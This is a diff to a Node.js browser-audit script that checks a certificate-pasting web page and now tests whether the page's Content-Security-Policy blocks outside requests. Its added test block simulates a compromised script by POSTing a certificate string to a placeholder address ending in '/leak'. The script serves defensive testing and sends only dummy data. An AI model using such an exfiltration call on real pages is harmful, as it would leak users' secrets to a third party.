@@ -3,7 +3,9 @@
 // Usage: node audit_page.mjs WEB_DIR CASES_JSON SCREENSHOT_PNG
 // CASES_JSON: {"policy": "...", "host": "...", "cases": [{"name": "...", "certificate": "..."}]}
 // Prints one JSON line: {"results": [{"name", "verdict", "reason", "checks", "json", "error"}],
-// "local_note": "...", "requests": [...every URL the page asked for...]}.
+// "requests": [...every URL the page asked for...], "outside_fetch": {"fetched", "violation"}}
+// where outside_fetch is the page itself trying to send something elsewhere (its
+// Content-Security-Policy must stop it).
 import { createServer } from "node:http";
 import { readFile } from "node:fs/promises";
 import { extname, join, normalize } from "node:path";
@@ -58,8 +60,21 @@ try {
       checks, json: json ? JSON.parse(json) : null, error });
     if (c.screenshot) await page.screenshot({ path: screenshot, fullPage: true });
   }
-  const localNote = await page.textContent("#local-note");
-  console.log(JSON.stringify({ results, local_note: localNote, requests }));
+  // What a compromised script on the page could try: send the pasted certificate elsewhere.
+  const outsideFetch = await page.evaluate(async () => {
+    let violation = null;
+    document.addEventListener("securitypolicyviolation", (e) => { violation = e.violatedDirective; });
+    let fetched = false;
+    try {
+      await fetch("http://198.51.100.7/leak", { method: "POST", body: "certificate" });
+      fetched = true;
+    } catch {
+      // Refused, as the policy says.
+    }
+    await new Promise((done) => setTimeout(done, 200));
+    return { fetched, violation };
+  });
+  console.log(JSON.stringify({ results, requests, outside_fetch: outsideFetch }));
 } finally {
   await browser.close();
   server.close();
